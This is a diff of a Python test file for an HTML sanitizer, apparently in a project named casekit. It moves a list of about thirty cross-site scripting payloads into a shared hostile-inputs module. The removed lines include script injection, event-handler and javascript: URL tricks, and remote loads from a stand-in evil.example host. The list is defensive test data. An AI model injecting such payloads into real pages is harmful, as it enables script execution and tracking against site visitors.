@@ -10,39 +10,8 @@ from casekit.safety.active_content import find_active_content
 from casekit.safety.sanitize import ALLOWED_TAGS, sanitize_html
 from tests.conftest import MINIMAL_TOML
 from tests.hostile_build import build_html
-from tests.test_html import tags
+from tests.hostile_inputs import XSS, tags
 
-XSS = [
-    "<script>alert('xss-1')</script>",
-    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert('xss-2')>",
-    "<svg onload=alert('xss-3')><script>alert(1)</script></svg>",
-    "<iframe src=\"javascript:alert('xss-4')\"></iframe>",
-    "<object data=http://evil.example/x.swf></object>",
-    "<embed src=http://evil.example/x.swf>",
-    "<a href=\"javascript:alert('xss-5')\">click</a>",
-    "<a href=\"JaVaScRiPt&#58;alert('xss-6')\">click</a>",
-    "<b onmouseover=\"alert('xss-7')\">bold</b>",
-    '<span style="background:url(http://evil.example/t.png)">s</span>',
-    "<style>body{background:url(http://evil.example/t.png)}</style>",
-    "<link rel=stylesheet href=http://evil.example/a.css>",
-    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
-    "<form action=http://evil.example><input name=p></form>",
-    "<details open ontoggle=alert('xss-8')>",
-    "<body onload=alert('xss-9')>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-10')>",
-    '<img src="http://evil.example/pixel.png">',
-    "<video><source onerror=\"alert('xss-11')\"></video>",
-    "<audio src=http://evil.example/a.mp3 autoplay>",
-    "<base href=http://evil.example/>",
-    "<scr<script>ipt>alert('xss-12')</scr</script>ipt>",
-    "<!--<img src=x onerror=alert('xss-13')>-->",
-    "<abbr title='\" onmouseover=alert(14) x=\"'>ҚР</abbr>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-15')>\"></noscript>",
-    "<template><img src=x onerror=alert('xss-16')></template>",
-    "<textarea><img src=x onerror=alert('xss-17')></textarea>",
-    "<isindex type=image src=1 onerror=alert('xss-18')>",
-]
 SAFE = 'H<sub>2</sub>O, <b>қалың</b>, <kbd>Ctrl</kbd>+<kbd>C</kbd>, <abbr title="Қазақстан Республикасы">ҚР</abbr><br>'
 
 
